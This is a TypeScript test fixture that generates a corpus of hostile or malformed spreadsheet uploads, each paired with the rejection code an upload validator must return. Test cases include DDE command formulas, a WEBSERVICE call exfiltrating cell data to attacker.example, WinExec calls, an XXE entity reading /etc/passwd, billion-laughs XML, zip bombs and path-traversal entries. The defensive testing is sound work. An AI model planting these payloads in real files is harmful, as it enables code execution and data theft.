// The hostile corpus: every kind of crafted or wrong upload we know of, each with the file.unreadable reason sub-code it
// must get, made in milliseconds from one generated application and one cash book (never LibreOffice per case). Run
// through `portfund check` (test/hostile-corpus-cli.test.ts) and an upload over HTTP (routes/hostile-corpus.test.ts).
import { deflateRawSync } from 'node:zlib';
import * as CFB from 'cfb';
import {
  buildZip,
  deflatedPart,
  docxNamedXlsx,
  editPart,
  emptyFile,
  encryptedWorkbook,
  htmlNamedXlsx,
  legacyXls,
  lyingZipBomb,
  odsNamedXlsx,
  partText,
  passwordZip,
  pdfNamedXlsx,
  pseudoRandomBytes,
  readZipParts,
  storedPart,
  textFileNamedXlsx,
  truncatedZip,
  withExternalLink,
  withJunkInstructions,
  withManyCells,
  withNulCharRef,
  xlsmWithMacros,
  zipBomb,
  type ZipPart,
} from './hostile-files';

export type Family = 'formats' | 'zip' | 'parts' | 'relationships' | 'encodings' | 'xml' | 'formulas' | 'names' | 'sizes';

export interface Templates {
  /** A generated application (88 KB). */
  readonly application: Buffer;
  /** A generated cash book (430 KB). */
  readonly cashbook: Buffer;
}

export interface HostileKind {
  readonly name: string;
  readonly family: Family;
  /** The reason sub-code of the one file.unreadable finding. */
  readonly reason: string;
  readonly make: (t: Templates) => Buffer;
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const APP_SHEET = 'xl/worksheets/sheet2.xml'; // 申請書: read by the rules (sheet1 is the generated 填表說明)
const CB_SHEET = 'xl/worksheets/sheet2.xml'; // 現金收支登記簿

const edit = (bytes: Buffer, path: string, change: (xml: string) => string): Buffer => buildZip(editPart(readZipParts(bytes), path, change));
const withPart = (bytes: Buffer, part: ZipPart): Buffer => buildZip([...readZipParts(bytes), part]);
const withParts = (bytes: Buffer, parts: readonly ZipPart[]): Buffer => buildZip([...readZipParts(bytes), ...parts]);
const bytesOfPart = (path: string, data: Buffer): ZipPart => ({ name: path, data: deflateRawSync(data), method: 8, crc: 0, uncompressedSize: data.length });
const rawEdit = (bytes: Buffer, path: string, change: (data: Buffer) => Buffer): Buffer =>
  buildZip(readZipParts(bytes).map((p) => (p.name === path ? bytesOfPart(path, change(Buffer.from(partText(p), 'utf8'))) : p)));

/** A formula typed into a new row of the application's 申請書. */
const formulaCell = (formula: string, shared = false): ((t: Templates) => Buffer) => (t) =>
  edit(t.application, APP_SHEET, (xml) =>
    xml.replace('</sheetData>', `<row r="900"><c r="B900"><f${shared ? ' t="shared" ref="B900:C900" si="90"' : ''}>${formula}</f><v>0</v></c>${shared ? '<c r="C900"><f t="shared" si="90"/><v>0</v></c>' : ''}</row></sheetData>`),
  );

const escapeXml = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** Redefines (or adds) a workbook-level defined name. */
const redefine = (bytes: Buffer, name: string, formula: string): Buffer =>
  edit(bytes, 'xl/workbook.xml', (xml) => {
    const element = `<definedName name="${name}">${escapeXml(formula)}</definedName>`;
    const existing = new RegExp(`<definedName name="${name}"[^>]*>[^<]*</definedName>`);
    return existing.test(xml) ? xml.replace(existing, element) : xml.replace('</definedNames>', `${element}</definedNames>`);
  });

const addType = (bytes: Buffer, element: string): Buffer => edit(bytes, '[Content_Types].xml', (xml) => xml.replace('</Types>', `${element}</Types>`));
const addWorkbookRel = (bytes: Buffer, element: string): Buffer =>
  edit(bytes, 'xl/_rels/workbook.xml.rels', (xml) => xml.replace('</Relationships>', `${element}</Relationships>`));
const sheetRels = (relationships: string): ZipPart =>
  deflatedPart(
    'xl/worksheets/_rels/sheet2.xml.rels',
    `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`,
  );

/** A part no workbook of ours has, with its content type declared as Excel would. */
const foreignPart = (path: string, contentType: string | null, data: string | Buffer = `${XML}<x/>`): ((t: Templates) => Buffer) => (t) => {
  const withType = contentType === null ? t.application : addType(t.application, `<Override PartName="/${path}" ContentType="${contentType}"/>`);
  return withPart(withType, typeof data === 'string' ? deflatedPart(path, data) : bytesOfPart(path, data));
};

const compound = (streams: Record<string, Buffer>): Buffer => {
  const container = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) CFB.utils.cfb_add(container, name, content);
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Buffer);
};

const skeletonTypes = (main: string): ZipPart =>
  deflatedPart(
    '[Content_Types].xml',
    `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${main}</Types>`,
  );

/** Bytes that are not UTF-8, spliced into the first text of a part. */
const badUtf8 = (t: Buffer, path: string, bytes: readonly number[]): Buffer =>
  rawEdit(t, path, (data) => {
    const at = data.indexOf('>', data.indexOf('<', data.indexOf('?>') + 2)) + 1;
    return Buffer.concat([data.subarray(0, at), Buffer.from(bytes), data.subarray(at)]);
  });

/** Entries named as no Office program names them (yauzl decodes UTF-8-flagged names; U+FFFD marks a bad byte). */
const renamed = (bytes: Buffer, from: string, to: string, flags = 0): Buffer =>
  buildZip(readZipParts(bytes).map((p) => (p.name === from ? { ...p, name: to, flags: (p.flags ?? 0) | flags } : p)));

const declared = (path: string, dataBytes: number, declaredBytes: number): ZipPart => ({
  name: path,
  data: pseudoRandomBytes(dataBytes),
  method: 8,
  crc: 0,
  uncompressedSize: declaredBytes,
});

const MB = 1024 * 1024;

const FORMATS: readonly HostileKind[] = [
  { name: 'empty.xlsx', family: 'formats', reason: 'gate.empty', make: () => emptyFile() },
  { name: 'renamed-xls.xlsx', family: 'formats', reason: 'gate.legacy_xls', make: () => legacyXls() },
  { name: 'encrypted.xlsx', family: 'formats', reason: 'gate.encrypted_office', make: () => encryptedWorkbook() },
  { name: 'word-doc.xlsx', family: 'formats', reason: 'gate.word_legacy', make: () => compound({ WordDocument: pseudoRandomBytes(600) }) },
  { name: 'powerpoint-ppt.xlsx', family: 'formats', reason: 'gate.power_point_legacy', make: () => compound({ 'PowerPoint Document': pseudoRandomBytes(600) }) },
  { name: 'csv.xlsx', family: 'formats', reason: 'gate.csv', make: () => textFileNamedXlsx() },
  { name: 'tsv.xlsx', family: 'formats', reason: 'gate.csv', make: () => Buffer.from('姓名\t金額\n王小明\t1000\n') },
  { name: 'plain-text.xlsx', family: 'formats', reason: 'gate.text', make: () => Buffer.from('這是一份會議紀錄\n沒有分隔字元\n') },
  { name: 'utf16-text.xlsx', family: 'formats', reason: 'gate.text', make: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('姓名\t金額', 'utf16le')]) },
  { name: 'html.xlsx', family: 'formats', reason: 'gate.html', make: () => htmlNamedXlsx() },
  { name: 'xml-spreadsheet.xlsx', family: 'formats', reason: 'gate.xml_spreadsheet', make: () => Buffer.from('<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>') },
  { name: 'pdf.xlsx', family: 'formats', reason: 'gate.pdf', make: () => pdfNamedXlsx() },
  { name: 'png.xlsx', family: 'formats', reason: 'gate.image', make: () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pseudoRandomBytes(64)]) },
  { name: 'jpeg.xlsx', family: 'formats', reason: 'gate.image', make: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), pseudoRandomBytes(64)]) },
  { name: 'gif.xlsx', family: 'formats', reason: 'gate.image', make: () => Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1') },
  { name: 'rar.xlsx', family: 'formats', reason: 'gate.other_archive', make: () => Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), pseudoRandomBytes(64)]) },
  { name: '7z.xlsx', family: 'formats', reason: 'gate.other_archive', make: () => Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), pseudoRandomBytes(64)]) },
  { name: 'gzip.xlsx', family: 'formats', reason: 'gate.other_archive', make: () => Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08]), pseudoRandomBytes(64)]) },
  { name: 'binary-junk.xlsx', family: 'formats', reason: 'gate.unknown_format', make: () => Buffer.concat([Buffer.from([0x00, 0x01, 0x02]), pseudoRandomBytes(256)]) },
  { name: 'ods.xlsx', family: 'formats', reason: 'gate.ods', make: () => odsNamedXlsx() },
  {
    name: 'odt.xlsx',
    family: 'formats',
    reason: 'gate.other_open_document',
    make: () => buildZip([storedPart('mimetype', 'application/vnd.oasis.opendocument.text'), deflatedPart('content.xml', `${XML}<x/>`)]),
  },
  { name: 'docx.xlsx', family: 'formats', reason: 'gate.docx', make: () => docxNamedXlsx() },
  { name: 'pptx.xlsx', family: 'formats', reason: 'gate.pptx', make: () => buildZip([skeletonTypes(''), deflatedPart('ppt/presentation.xml', `${XML}<p/>`)]) },
  { name: 'xlsb.xlsx', family: 'formats', reason: 'gate.xlsb', make: () => buildZip([skeletonTypes(''), bytesOfPart('xl/workbook.bin', pseudoRandomBytes(64))]) },
  { name: 'other-office.xlsx', family: 'formats', reason: 'gate.other_office', make: () => buildZip([skeletonTypes(''), deflatedPart('visio/document.xml', `${XML}<v/>`)]) },
  { name: 'empty-zip.xlsx', family: 'formats', reason: 'gate.empty_zip', make: () => buildZip([]) },
  { name: 'plain-zip.xlsx', family: 'formats', reason: 'gate.plain_zip', make: () => buildZip([deflatedPart('readme.txt', '說明')]) },
];

const ZIP: readonly HostileKind[] = [
  { name: 'truncated.xlsx', family: 'zip', reason: 'gate.corrupt_zip', make: (t) => truncatedZip(t.application) },
  { name: 'truncated-early.xlsx', family: 'zip', reason: 'gate.corrupt_zip', make: (t) => truncatedZip(t.application, 0.1) },
  { name: 'zip-bomb.xlsx', family: 'zip', reason: 'gate.zip_bomb', make: () => zipBomb() },
  { name: 'lying-zip-bomb.xlsx', family: 'zip', reason: 'gate.zip_bomb', make: () => lyingZipBomb() },
  { name: 'password-zip.xlsx', family: 'zip', reason: 'gate.encrypted_zip', make: () => passwordZip() },
  {
    name: 'one-encrypted-entry.xlsx',
    family: 'zip',
    reason: 'gate.encrypted_zip',
    make: (t) => buildZip(readZipParts(t.application).map((p) => (p.name === 'xl/styles.xml' ? { ...p, flags: 1 } : p))),
  },
  { name: 'duplicate-entries.xlsx', family: 'zip', reason: 'gate.duplicate_entries', make: (t) => withPart(t.application, deflatedPart(APP_SHEET, `${XML}<worksheet/>`)) },
  {
    name: 'duplicate-by-case.xlsx',
    family: 'zip',
    reason: 'gate.duplicate_entries',
    make: (t) => withPart(t.application, deflatedPart('XL/Workbook.xml', `${XML}<workbook/>`)),
  },
  {
    name: 'too-many-entries.xlsx',
    family: 'zip',
    reason: 'gate.too_many_entries',
    make: (t) => withParts(t.application, Array.from({ length: 2_000 }, (_, i) => storedPart(`xl/worksheets/sheet${100 + i}.xml`, ''))),
  },
  { name: 'nul-in-entry-name.xlsx', family: 'zip', reason: 'gate.bad_entry_name', make: (t) => renamed(t.application, 'xl/theme/theme1.xml', 'xl/theme/theme1.xml\u0000.exe') },
  { name: 'control-in-entry-name.xlsx', family: 'zip', reason: 'gate.bad_entry_name', make: (t) => renamed(t.application, 'xl/theme/theme1.xml', 'xl/theme/\u0007theme1.xml') },
  {
    name: 'invalid-utf8-entry-name.xlsx',
    family: 'zip',
    reason: 'gate.bad_entry_name',
    // a name flagged UTF-8 whose bytes are not: written as a placeholder, then its bytes swapped in both headers
    make: (t) => {
      const zip = renamed(t.application, 'xl/theme/theme1.xml', 'xl/theme/\u00a7\u00a7.xml', 0x0800);
      const placeholder = Buffer.from('\u00a7\u00a7', 'utf8');
      for (let at = zip.indexOf(placeholder); at >= 0; at = zip.indexOf(placeholder, at + 1)) zip.set([0xc3, 0x28, 0xff, 0xfe], at);
      return zip;
    },
  },
  { name: 'drive-letter-entry.xlsx', family: 'zip', reason: 'gate.corrupt_zip', make: (t) => withPart(t.application, deflatedPart('C:/Windows/evil.xml', `${XML}<x/>`)) },
  { name: 'parent-path-entry.xlsx', family: 'zip', reason: 'gate.corrupt_zip', make: (t) => withPart(t.application, deflatedPart('xl/../../evil.xml', `${XML}<x/>`)) },
  { name: 'absolute-path-entry.xlsx', family: 'zip', reason: 'gate.corrupt_zip', make: (t) => withPart(t.application, deflatedPart('/etc/evil.xml', `${XML}<x/>`)) },
  {
    name: 'oversized-content-types.xlsx',
    family: 'zip',
    reason: 'gate.oversized_content_types',
    make: (t) =>
      buildZip(
        readZipParts(t.application).map((p) =>
          p.name === '[Content_Types].xml' ? storedPart(p.name, partText(p).replace('</Types>', `<!--${'x'.repeat(5 * MB)}--></Types>`)) : p,
        ),
      ),
  },
  { name: 'sheet-declared-too-large.xlsx', family: 'zip', reason: 'gate.sheet_too_large', make: (t) => withPart(t.application, declared('xl/worksheets/sheet50.xml', 1 * MB, 160 * MB)) },
  { name: 'part-declared-too-large.xlsx', family: 'zip', reason: 'gate.part_too_large', make: (t) => withPart(t.application, declared('xl/comments1.xml', 256 * 1024, 40 * MB)) },
  {
    name: 'total-declared-too-large.xlsx',
    family: 'zip',
    reason: 'gate.total_too_large',
    make: (t) => withParts(t.application, [51, 52, 53].map((n) => declared(`xl/worksheets/sheet${n}.xml`, 700 * 1024, 100 * MB))),
  },
  {
    name: 'corrupt-deflate.xlsx',
    family: 'zip',
    reason: 'gate.corrupt_zip',
    make: (t) => buildZip(readZipParts(t.application).map((p) => (p.name === 'xl/styles.xml' ? { ...p, data: Buffer.from([0xff, 0xff, 0xff, 0xff, ...p.data]) } : p))),
  },
];

const PARTS: readonly HostileKind[] = [
  { name: 'macros.xlsm', family: 'parts', reason: 'gate.macro', make: (t) => xlsmWithMacros(t.application) },
  { name: 'macro-sheet.xlsx', family: 'parts', reason: 'gate.macro', make: foreignPart('xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml') },
  { name: 'external-link.xlsx', family: 'parts', reason: 'gate.external_link', make: (t) => withExternalLink(t.application) },
  { name: 'ole-embedding.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/embeddings/oleObject1.bin', 'application/vnd.openxmlformats-officedocument.oleObject', pseudoRandomBytes(512)) },
  { name: 'embedded-package.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/embeddings/Microsoft_Excel_Worksheet1.xlsx', null, pseudoRandomBytes(512)) },
  { name: 'embedded-exe.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/embeddings/setup.exe', null, Buffer.from('MZ\x90\x00', 'latin1')) },
  { name: 'activex-xml.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml') },
  { name: 'activex-bin.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/activeX/activeX1.bin', 'application/vnd.ms-office.activeX', pseudoRandomBytes(256)) },
  { name: 'connections.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/connections.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml') },
  { name: 'query-table.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/queryTables/queryTable1.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml') },
  { name: 'custom-ui.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('customUI/customUI.xml', null) },
  { name: 'custom-ui-14.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('customUI/customUI14.xml', null) },
  { name: 'web-extension.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/webextensions/webextension1.xml', 'application/vnd.ms-office.webextension+xml') },
  { name: 'web-extension-taskpane.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/webextensions/taskpanes.xml', 'application/vnd.ms-office.webextensiontaskpanes+xml') },
  { name: 'drawing.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/drawings/drawing1.xml', 'application/vnd.openxmlformats-officedocument.drawing+xml') },
  { name: 'media-image.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/media/image1.png', null, pseudoRandomBytes(256)) },
  { name: 'chart.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/charts/chart1.xml', 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml') },
  { name: 'pivot-cache.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/pivotCache/pivotCacheDefinition1.xml', null) },
  { name: 'pivot-table.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/pivotTables/pivotTable1.xml', null) },
  { name: 'form-control.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/ctrlProps/ctrlProp1.xml', null) },
  { name: 'slicer.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/slicers/slicer1.xml', null) },
  { name: 'data-model.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/model/item.data', null, pseudoRandomBytes(256)) },
  { name: 'rich-data.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/richData/richValueRel.xml', null) },
  { name: 'dialog-sheet.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/dialogsheets/sheet1.xml', null) },
  { name: 'chart-sheet.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/chartsheets/sheet1.xml', null) },
  { name: 'attached-toolbars.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('xl/attachedToolbars.bin', null, pseudoRandomBytes(128)) },
  { name: 'root-executable.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('invoice.exe', null, Buffer.from('MZ\x90\x00', 'latin1')) },
  { name: 'signature.xlsx', family: 'parts', reason: 'gate.part_not_allowed', make: foreignPart('_xmlsignatures/sig1.xml', null) },
  {
    name: 'activex-content-type.xlsx',
    family: 'parts',
    reason: 'gate.content_type_not_allowed',
    make: (t) => addType(t.application, '<Override PartName="/xl/theme/theme1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'),
  },
  { name: 'exe-default-type.xlsx', family: 'parts', reason: 'gate.content_type_not_allowed', make: (t) => addType(t.application, '<Default Extension="exe" ContentType="application/x-msdownload"/>') },
  {
    name: 'ole-default-type.xlsx',
    family: 'parts',
    reason: 'gate.content_type_not_allowed',
    make: (t) => addType(t.application, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
  },
];

const RELATIONSHIPS: readonly HostileKind[] = [
  {
    name: 'unc-sheet-relationship.xlsx',
    family: 'relationships',
    reason: 'gate.external_relationship',
    make: (t) => withPart(t.application, sheetRels(`<Relationship Id="rIdX" Type="${REL}/hyperlink" Target="\\\\attacker.example\\share\\x.xlsx" TargetMode="External"/>`)),
  },
  {
    name: 'http-hyperlink-relationship.xlsx',
    family: 'relationships',
    reason: 'gate.external_relationship',
    make: (t) => withPart(t.application, sheetRels(`<Relationship Id="rIdH" Type="${REL}/hyperlink" Target="https://attacker.example/" TargetMode="External"/>`)),
  },
  {
    name: 'file-url-relationship.xlsx',
    family: 'relationships',
    reason: 'gate.external_relationship',
    make: (t) => withPart(t.application, sheetRels(`<Relationship Id="rIdF" Type="${REL}/oleObject" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>`)),
  },
  {
    name: 'lowercase-external-mode.xlsx',
    family: 'relationships',
    reason: 'gate.external_relationship',
    make: (t) => withPart(t.application, sheetRels(`<Relationship Id="rIdL" Type="${REL}/hyperlink" Target="\\\\h\\s" TargetMode="external"/>`)),
  },
  {
    name: 'workbook-external-relationship.xlsx',
    family: 'relationships',
    reason: 'gate.external_relationship',
    make: (t) => addWorkbookRel(t.application, `<Relationship Id="rIdW" Type="${REL}/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>`),
  },
  {
    name: 'package-external-relationship.xlsx',
    family: 'relationships',
    reason: 'gate.external_relationship',
    make: (t) =>
      edit(t.application, '_rels/.rels', (xml) =>
        xml.replace('</Relationships>', `<Relationship Id="rIdP" Type="${REL}/customXml" Target="http://attacker.example/x" TargetMode="External"/></Relationships>`),
      ),
  },
  {
    name: 'ole-relationship.xlsx',
    family: 'relationships',
    reason: 'gate.relationship_not_allowed',
    make: (t) => withPart(t.application, sheetRels(`<Relationship Id="rIdO" Type="${REL}/oleObject" Target="../theme/theme1.xml"/>`)),
  },
  {
    name: 'vba-relationship.xlsx',
    family: 'relationships',
    reason: 'gate.relationship_not_allowed',
    make: (t) => addWorkbookRel(t.application, '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme/theme1.xml"/>'),
  },
  {
    name: 'image-relationship.xlsx',
    family: 'relationships',
    reason: 'gate.relationship_not_allowed',
    make: (t) => withPart(t.application, sheetRels(`<Relationship Id="rIdI" Type="${REL}/image" Target="../theme/theme1.xml"/>`)),
  },
  {
    name: 'custom-ui-relationship.xlsx',
    family: 'relationships',
    reason: 'gate.relationship_not_allowed',
    make: (t) =>
      edit(t.application, '_rels/.rels', (xml) =>
        xml.replace('</Relationships>', '<Relationship Id="rIdU" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" Target="xl/styles.xml"/></Relationships>'),
      ),
  },
];

const ENCODINGS: readonly HostileKind[] = [
  { name: 'invalid-utf8-shared-strings.xlsx', family: 'encodings', reason: 'gate.invalid_utf8', make: (t) => badUtf8(t.application, 'xl/sharedStrings.xml', [0xc3, 0x28]) },
  { name: 'invalid-utf8-sheet.xlsx', family: 'encodings', reason: 'gate.invalid_utf8', make: (t) => badUtf8(t.application, APP_SHEET, [0xff]) },
  { name: 'invalid-utf8-workbook.xlsx', family: 'encodings', reason: 'gate.invalid_utf8', make: (t) => badUtf8(t.application, 'xl/workbook.xml', [0x80, 0x80]) },
  { name: 'overlong-utf8.xlsx', family: 'encodings', reason: 'gate.invalid_utf8', make: (t) => badUtf8(t.application, 'xl/styles.xml', [0xc0, 0xaf]) },
  { name: 'utf8-surrogate.xlsx', family: 'encodings', reason: 'gate.invalid_utf8', make: (t) => badUtf8(t.application, 'xl/sharedStrings.xml', [0xed, 0xa0, 0x80]) },
  { name: 'utf8-beyond-unicode.xlsx', family: 'encodings', reason: 'gate.invalid_utf8', make: (t) => badUtf8(t.application, 'xl/sharedStrings.xml', [0xf4, 0x90, 0x80, 0x80]) },
  {
    name: 'truncated-utf8-at-end.xlsx',
    family: 'encodings',
    reason: 'gate.invalid_utf8',
    make: (t) => rawEdit(t.application, 'docProps/app.xml', (data) => Buffer.concat([data, Buffer.from([0xe4, 0xb8])])),
  },
  {
    name: 'utf16-styles.xlsx',
    family: 'encodings',
    reason: 'gate.invalid_utf8',
    make: (t) => rawEdit(t.application, 'xl/styles.xml', (data) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(data.toString('utf8').replace('UTF-8', 'UTF-16'), 'utf16le')])),
  },
  { name: 'invalid-utf8-rels.xlsx', family: 'encodings', reason: 'gate.invalid_utf8', make: (t) => badUtf8(t.application, 'xl/_rels/workbook.xml.rels', [0xfe]) },
  { name: 'invalid-utf8-content-types.xlsx', family: 'encodings', reason: 'gate.invalid_utf8', make: (t) => badUtf8(t.application, '[Content_Types].xml', [0xc3]) },
  { name: 'nul-char-ref.xlsx', family: 'encodings', reason: 'reader.corrupt_xml', make: (t) => withNulCharRef(t.application) },
  { name: 'raw-control-character.xlsx', family: 'encodings', reason: 'reader.corrupt_xml', make: (t) => badUtf8(t.application, 'xl/sharedStrings.xml', [0x01]) },
  { name: 'raw-nul-byte.xlsx', family: 'encodings', reason: 'reader.corrupt_xml', make: (t) => badUtf8(t.application, 'xl/workbook.xml', [0x00]) },
];

const XML_KINDS: readonly HostileKind[] = [
  {
    name: 'billion-laughs.xlsx',
    family: 'xml',
    reason: 'reader.corrupt_xml',
    make: (t) =>
      edit(t.application, 'xl/sharedStrings.xml', (xml) =>
        xml.replace('?>', '?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'),
      ),
  },
  {
    name: 'external-entity.xlsx',
    family: 'xml',
    reason: 'reader.corrupt_xml',
    make: (t) => edit(t.application, 'xl/workbook.xml', (xml) => xml.replace('?>', '?><!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
  },
  { name: 'unclosed-workbook.xlsx', family: 'xml', reason: 'reader.corrupt_xml', make: (t) => edit(t.application, 'xl/workbook.xml', (xml) => xml.replace('</workbook>', '')) },
  { name: 'mismatched-tag-sheet.xlsx', family: 'xml', reason: 'reader.corrupt_xml', make: (t) => edit(t.application, APP_SHEET, (xml) => xml.replace('</sheetData>', '</sheetDta>')) },
  { name: 'unterminated-comment.xlsx', family: 'xml', reason: 'reader.corrupt_xml', make: (t) => edit(t.application, 'xl/styles.xml', (xml) => xml.replace('</styleSheet>', '<!-- </styleSheet>')) },
  { name: 'unterminated-cdata.xlsx', family: 'xml', reason: 'reader.corrupt_xml', make: (t) => edit(t.application, 'xl/sharedStrings.xml', (xml) => xml.replace('</sst>', '<![CDATA[x</sst>')) },
  { name: 'unterminated-row.xlsx', family: 'xml', reason: 'reader.corrupt_xml', make: (t) => edit(t.application, APP_SHEET, (xml) => xml.replace(/<\/row>(?![\s\S]*<\/row>)/, '')) },
  { name: 'unterminated-tag.xlsx', family: 'xml', reason: 'reader.corrupt_xml', make: (t) => edit(t.application, 'xl/workbook.xml', (xml) => `${xml}<definedName name="x`) },
];

const FORMULAS: readonly HostileKind[] = [
  { name: 'dde-cmd.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell("cmd|'/c calc'!A0") },
  { name: 'dde-msexcel.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell("msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''") },
  { name: 'dde-in-expression.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('1+powershell|x!A1') },
  { name: 'webservice.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('WEBSERVICE(&quot;http://attacker.example/?d=&quot;&amp;申請書!C4)') },
  { name: 'webservice-xlfn.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('_xlfn.WEBSERVICE(&quot;http://attacker.example/&quot;)') },
  { name: 'filterxml.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('_xlfn.FILTERXML(&quot;&lt;a/&gt;&quot;,&quot;//a&quot;)') },
  { name: 'call.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)') },
  { name: 'register-id.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('REGISTER.ID(&quot;kernel32&quot;,&quot;WinExec&quot;)') },
  { name: 'exec.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('EXEC(&quot;calc.exe&quot;)') },
  { name: 'rtd.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('RTD(&quot;evil.server&quot;,,&quot;topic&quot;)') },
  { name: 'external-reference-index.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('[1]決算!B4*2') },
  { name: 'external-reference-file.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell("'[114年決算.xlsx]決算'!$B$4") },
  { name: 'external-reference-unc.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell("'\\\\attacker\\share\\[x.xlsx]Sheet1'!A1") },
  { name: 'hyperlink-file.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('HYPERLINK(&quot;file://attacker.example/share/x&quot;,&quot;附件&quot;)') },
  { name: 'hyperlink-unc.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('HYPERLINK(&quot;\\\\attacker.example\\share&quot;)') },
  { name: 'hyperlink-computed.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('HYPERLINK(申請書!C4)') },
  { name: 'shared-formula-webservice.xlsx', family: 'formulas', reason: 'reader.active_formula', make: formulaCell('WEBSERVICE(A1)', true) },
];

const NAMES: readonly HostileKind[] = [
  { name: 'cb-entries-whole-sheet.xlsx', family: 'names', reason: 'bounds.name_too_large', make: (t) => redefine(t.cashbook, 'cb_entries', "'現金收支登記簿'!$A$1:$Z$1048576") },
  { name: 'cb-entries-whole-columns.xlsx', family: 'names', reason: 'bounds.name_too_large', make: (t) => redefine(t.cashbook, 'cb_entries', "'現金收支登記簿'!$A:$Z") },
  { name: 'cb-entries-just-too-long.xlsx', family: 'names', reason: 'bounds.name_too_large', make: (t) => redefine(t.cashbook, 'cb_entries', "'現金收支登記簿'!$A$14:$AA$25014") },
  { name: 'roster-whole-sheet.xlsx', family: 'names', reason: 'bounds.name_too_large', make: (t) => redefine(t.application, 'roster_rows', "'會員名冊'!$A$1:$XFD$1048576") },
  { name: 'single-cell-name-whole-row.xlsx', family: 'names', reason: 'bounds.name_too_large', make: (t) => redefine(t.application, 'app_ubn', "'申請書'!$1:$1") },
  {
    name: 'fifty-thousand-names.xlsx',
    family: 'names',
    reason: 'bounds.too_many_names',
    make: (t) =>
      edit(t.application, 'xl/workbook.xml', (xml) =>
        xml.replace('</definedNames>', `${Array.from({ length: 50_000 }, (_, i) => `<definedName name="n${i}">'申請書'!$A$1</definedName>`).join('')}</definedNames>`),
      ),
  },
